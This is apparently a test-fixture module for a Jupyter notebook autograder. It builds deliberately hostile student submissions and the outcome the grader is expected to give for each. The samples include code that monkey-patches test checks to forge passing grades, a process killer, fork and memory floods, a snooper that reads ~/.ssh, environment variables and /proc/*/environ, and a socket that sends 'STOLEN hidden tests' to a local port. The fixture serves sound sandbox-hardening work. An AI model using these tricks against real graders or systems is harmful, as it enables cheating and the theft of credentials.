"""A class of crafted submissions for the fixture assignment, each with its expected outcome.

The fixture has three exercises: relu (1 point), mse (2) and softmax (2).
Every submission starts from the right answers (the released notebook with the
source's solutions filled in) and changes one thing, so that each expected
score says exactly what that one thing costs.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import nbformat

from autograder.samples import load_pair, solved_release, with_cell, write_submission

from .conftest import FIXTURE_ASSIGNMENT, FIXTURE_COURSE

REPO = Path(__file__).resolve().parents[2]  # this checkout, wherever it was cloned

SECRET_ENV = "AUTOGRADER_TEST_SECRET"
SECRET_VALUE = "s3cr3t-9f2c1e-never-in-a-sandbox"
# Lines of the fixture's hidden tests: they must never reach a student's feedback.
HIDDEN_SNIPPETS = ("np.where(_x > 0, _x, 0.0)", "_rng = np.random.default_rng(2)",
                   "_big = softmax(np.array([[1000.0, 1000.0, 999.0]]))")
WRONG_RELU = "def relu(x):\n    return np.asarray(x, dtype=float)  # forgot the max with 0"


@dataclass
class Crafted:
    """One student's submission and what grading it must give."""

    student: str
    score: float | None  # None: only the status and flags are asserted
    status: str = "graded"
    flags_include: tuple[str, ...] = ()
    flags_exclude: tuple[str, ...] = ()
    write: Callable[[Path], None] | None = None
    note: str = ""
    extra: dict = field(default_factory=dict)


def _pair() -> tuple[Any, Any]:
    return load_pair(FIXTURE_COURSE, FIXTURE_ASSIGNMENT)


def right_answers() -> Any:
    release, source = _pair()
    return solved_release(release, source)


def _cell_index(nb: Any, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _append(code: str) -> Callable[[str], str]:
    return lambda src: src + "\n" + code


def _prepend(code: str) -> Callable[[str], str]:
    return lambda src: code + "\n" + src


def crafted_batch(loopback_port: int) -> list[Crafted]:
    """The crafted class; ``loopback_port`` is a server the test runs outside the sandbox."""
    right = right_answers()
    release, _ = _pair()
    items: list[tuple[Crafted, Any]] = []

    def add(c: Crafted, nb: Any) -> None:
        items.append((c, nb))

    add(Crafted("right", 5.0, flags_exclude=("tampering", "tests_restored", "timeout")), right)
    add(Crafted("untouched", 0.0, flags_exclude=("tampering",)), copy.deepcopy(release))
    add(Crafted("partial", 3.0, flags_exclude=("tampering",), note="mse sums instead of averaging"),
        with_cell(right, "mse", lambda s: s.replace("np.mean", "np.sum")))

    # Runaway code: points earned by the other exercises still count.
    add(Crafted("infinite_loop", 3.0, flags_include=("timeout",)),
        with_cell(right, "mse", _prepend("while True:\n    pass")))
    add(Crafted("os_exit", 1.0, flags_include=("kernel_died",), flags_exclude=("output_truncated",)),
        with_cell(right, "mse", _prepend("import os\nos._exit(3)")))
    add(Crafted("sys_exit", 3.0, flags_exclude=("kernel_died",)),
        with_cell(right, "mse", _prepend("import sys\nsys.exit(0)")))
    add(Crafted("memory_hog", 3.0, flags_include=("memory_limit",)),
        with_cell(right, "mse", _prepend((
            "import time\n_hog = []\nwhile True:\n"
            "    _hog.append(bytearray(16 * 2**20))  # grows 16 MB at a time, never freed\n"
            "    time.sleep(0.01)"))))
    add(Crafted("spawner", 5.0, note="leaves processes behind; none may survive grading"),
        with_cell(right, "relu", _prepend((
            "import os, subprocess\n_kids = []\n"
            "os.system('setsid sleep 987 > /dev/null 2>&1 &')\n"
            "try:\n    for _ in range(2000):\n"
            "        _kids.append(subprocess.Popen(['sleep', '986']))\n"
            "except OSError as exc:\n    print('the process limit stopped me:', type(exc).__name__)"))))
    add(Crafted("huge_output", 5.0, flags_include=("output_truncated",)),
        with_cell(right, "relu", _prepend((
            "for _i in range(30000):\n    print('line', _i)\n"
            "print('x' * (40 * 2**20))  # one message larger than the grader accepts"))))

    # Tests, points and metadata come from the master.
    edited = with_cell(right, "relu", lambda s: WRONG_RELU)
    edited = with_cell(edited, "test-relu", lambda s: "check.close(1.0, 1.0, label='relu([-2, 0, 3])')")
    add(Crafted("edited_test", 4.0, flags_include=("tests_restored",)), edited)
    deleted = copy.deepcopy(right)
    del deleted.cells[_cell_index(deleted, "test-mse")]
    add(Crafted("deleted_test", 5.0, flags_include=("tests_restored",)), deleted)
    duplicated = copy.deepcopy(right)
    dup = copy.deepcopy(duplicated.cells[_cell_index(duplicated, "test-softmax")])
    dup.id = "dup-softmax"
    duplicated.cells.insert(_cell_index(duplicated, "softmax"), dup)  # runs before softmax exists
    add(Crafted("duplicated_test", 5.0, flags_include=("tests_restored",)), duplicated)
    inflated = copy.deepcopy(right)
    inflated.cells[_cell_index(inflated, "test-relu")].metadata.nbgrader["points"] = 100
    add(Crafted("inflated_points", 5.0, flags_include=("tests_restored",)), inflated)
    retyped = copy.deepcopy(right)
    cell = retyped.cells[_cell_index(retyped, "test-mse")]
    retyped.cells[_cell_index(retyped, "test-mse")] = nbformat.v4.new_markdown_cell(
        cell.source, metadata=cell.metadata, id=cell.id)
    add(Crafted("retyped_test", 5.0, flags_include=("tests_restored",)), retyped)

    # Tampering inside the kernel earns nothing (relu is wrong in each of these).
    wrong = with_cell(right, "relu", lambda s: WRONG_RELU)
    add(Crafted("patch_numpy", 4.0), with_cell(wrong, "relu", _append((
        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(b), bool)\n"
        "np.array_equal = lambda *a, **k: True"))))
    add(Crafted("patch_check", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "import dlbricks.check as _c\n"
        "for _name in [n for n in dir(_c) if n.startswith('_judge')]:\n"
        "    setattr(_c, _name, lambda *a, **k: _c.Verdict(True, ''))\n"
        "_c._allclose = lambda *a, **k: True"))))
    # The grader puts the real check.close back before each test: only relu (wrong) fails.
    add(Crafted("patch_check_noop", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "from dlbricks import check as _c\n_c.close = lambda *a, **k: None"))))
    # Forged records: the real check called with the expected value as the answer.
    add(Crafted("forge_records", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append(
        "from dlbricks import check as _c\n_real_close = _c.close\n"
        "_c.close = lambda actual, expected, **kw: _real_close(expected, expected, **kw)")))
    add(Crafted("patch_during_test", 4.0, flags_include=("tampering",)), with_cell(right, "relu", lambda s: (
        "def relu(x):\n"
        "    import dlbricks.check as c\n"
        "    real = c.close\n"
        "    c.close = lambda a, e, **kw: real(e, e, **kw)  # for the checks that follow\n"
        "    return np.asarray(x, dtype=float)")))
    add(Crafted("patch_assertion", 4.0), with_cell(wrong, "relu", _append((
        "import builtins\nclass _Quiet(Exception):\n    pass\n"
        "builtins.AssertionError = _Quiet\n"
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)"))))
    add(Crafted("patch_builtins", 4.0), with_cell(wrong, "relu", _append((
        "import builtins\n_real_abs = builtins.abs\nbuiltins.abs = lambda x: 0 * _real_abs(x)\n"
        "builtins.all = lambda *a: True\nbuiltins.any = lambda *a: False"))))
    add(Crafted("rigged_eq", 4.0), with_cell(right, "relu", lambda s: (
        "class _AlwaysEqual(np.ndarray):\n"
        "    def __eq__(self, other):\n        return np.ones(np.shape(other), dtype=bool)\n"
        "    def __sub__(self, other):\n        return np.zeros(np.shape(other))\n"
        "    def __rsub__(self, other):\n        return np.zeros(np.shape(other))\n"
        "    __ne__ = lambda self, other: np.zeros(np.shape(other), dtype=bool)\n"
        "def relu(x):\n    return np.zeros_like(np.asarray(x, dtype=float)).view(_AlwaysEqual)")))
    add(Crafted("rewrite_hook", 0.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "def _drop_checks(lines):\n"
        "    return [ln for ln in lines if 'check.' not in ln] or ['pass\\n']\n"
        "get_ipython().input_transformers_cleanup.append(_drop_checks)"))))
    add(Crafted("event_hook", 0.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "def _before(info):\n"
        "    import dlbricks.check as c\n"
        "    for n in ('close', 'probabilities', 'is_true', 'equal'):\n"
        "        setattr(c, n, lambda *a, **k: None)\n"
        "get_ipython().events.register('pre_run_cell', _before)"))))

    # Snooping: nothing secret is visible, and nothing leaks into the feedback.
    snoop = (
        "import glob, os, linecache\n"
        f"for _p in [{str(REPO / 'source')!r}, {str(REPO / 'tests')!r}, '/root/.ssh', '/root']:\n"
        "    print(_p, 'VISIBLE' if os.path.exists(_p) and os.listdir(_p) else 'hidden')\n"
        f"for _top in [{str(REPO.parent)!r}, '/work', '/home', '/tmp', '/root', '/opt', '/etc']:\n"
        "    print('gradebooks:', glob.glob(_top + '/**/gradebook.db', recursive=True))\n"
        "    print('notebooks:', glob.glob(_top + '/**/*.ipynb', recursive=True))\n"
        "print('environment:', dict(os.environ))\n"
        "for _pid in os.listdir('/proc'):\n"
        "    if _pid.isdigit():\n"
        "        try:\n            print('proc', _pid, open(f'/proc/{_pid}/environ', 'rb').read()[:2000])\n"
        "        except OSError as exc:\n            print('proc', _pid, 'closed:', type(exc).__name__)\n"
    )
    snooper = with_cell(right, "relu", _append(snoop))
    leak = nbformat.v4.new_code_cell(
        "import linecache\nprint('CACHE', [''.join(v[2]) for v in linecache.cache.values()])\n"
        "print('HISTORY', In, _ih)", id="leak")
    snooper.cells.append(leak)
    add(Crafted("snooper", 5.0, flags_exclude=("timeout",), note="tries to read source/, the gradebook, secrets and hidden tests"), snooper)
    add(Crafted("network", 5.0, note="tries the loopback server the test runs outside the sandbox"),
        with_cell(right, "relu", _append((
            "import socket\n"
            "for _host in ['127.0.0.1', 'localhost', '10.0.2.2', '172.17.0.1']:\n"
            "    try:\n"
            f"        _s = socket.create_connection((_host, {loopback_port}), timeout=2)\n"
            "        _s.sendall(b'STOLEN hidden tests')\n"
            "        print('CONNECTED to', _host)\n"
            "    except OSError as exc:\n"
            "        print('no network to', _host, type(exc).__name__)"))))
    add(Crafted("killer", 1.0, flags_include=("sandbox_crashed",), note="signals every process it can see"),
        with_cell(right, "mse", _prepend((
            "import os, signal\n"
            "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    if _pid != os.getpid():\n"
            "        for _sig in (signal.SIGTERM, signal.SIGKILL):\n"
            "            try:\n                os.kill(_pid, _sig)\n            except OSError:\n                pass\n"
            "os.kill(-1, signal.SIGKILL)"))))
    add(Crafted("absl_stderr", 5.0, note="TensorFlow/absl-style lines on stderr during the tests"),
        with_cell(right, "relu", lambda s: (
            "import sys\n"
            "def relu(x):\n"
            "    print('W0000 00:00:1700000000.000000 4242 cpu_feature_guard.cc:145] This TensorFlow binary '\n"
            "          'is optimized to use available CPU instructions.', file=sys.stderr)\n"
            "    print('WARNING:absl:Compiled the loaded model, but the compiled metrics have yet to be built.',\n"
            "          file=sys.stderr)\n"
            "    return np.maximum(x, 0.0)")))
    add(Crafted("shadowing", 5.0, note="a numpy.py and dlbricks/ beside the notebook are ignored",
                extra={"shadow_files": True}), right)

    out = []
    for crafted, nb in items:
        nb_copy = copy.deepcopy(nb)

        def write(root: Path, nb_copy: Any = nb_copy, student: str = crafted.student,
                  shadow: bool = bool(crafted.extra.get("shadow_files"))) -> None:
            path = write_submission(root, student, FIXTURE_ASSIGNMENT, FIXTURE_ASSIGNMENT, nb_copy)
            if shadow:
                (path.parent / "numpy.py").write_text("raise SystemExit('shadowed numpy imported')\n")
                (path.parent / "dlbricks").mkdir()
                (path.parent / "dlbricks" / "__init__.py").write_text("raise SystemExit('shadowed dlbricks')\n")
        crafted.write = write
        out.append(crafted)

    # Files that are not gradable notebooks.
    def raw(student: str, content: bytes | None) -> Callable[[Path], None]:
        def write(root: Path) -> None:
            folder = root / student / FIXTURE_ASSIGNMENT
            folder.mkdir(parents=True, exist_ok=True)
            if content is not None:
                (folder / f"{FIXTURE_ASSIGNMENT}.ipynb").write_bytes(content)
        return write

    out.append(Crafted("invalid_json", 0.0, status="invalid",
                       write=raw("invalid_json", b'{"cells": [ {"cell_type": "code", "source": "x = ')))
    out.append(Crafted("empty_file", 0.0, status="invalid", write=raw("empty_file", b"")))
    out.append(Crafted("not_a_notebook", 0.0, status="invalid", write=raw("not_a_notebook", b'{"hello": "world"}')))
    out.append(Crafted("missing_notebook", 0.0, status="missing", write=raw("missing_notebook", None)))
    return out
